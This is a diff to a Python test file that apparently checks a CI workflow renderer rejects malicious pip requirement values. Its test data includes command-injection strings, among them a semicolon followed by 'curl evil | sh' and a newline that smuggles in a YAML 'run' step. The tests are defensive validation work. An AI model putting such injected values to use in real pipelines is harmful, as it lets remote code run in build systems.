@@ -47,6 +47,10 @@ def test_ci_installs_what_is_given_quoted():
     assert "pip install 'gpuplan @ git+https://github.com/example/gpuplan@0123456789abcdef'" in runs
     with pytest.raises(UsageError, match="pip requirement"):
         render_workflow("infra/llm", "prod", "gpuplan; curl evil | sh")
+    # one line: a newline in the value (a YAML step smuggled in) is shown escaped
+    with pytest.raises(UsageError) as refused:
+        render_workflow("infra/llm", "prod", "gpuplan==1\n      run: curl evil | sh")
+    assert "\n" not in refused.value.message and "\\n" in refused.value.message
 
 
 class FakeDist:
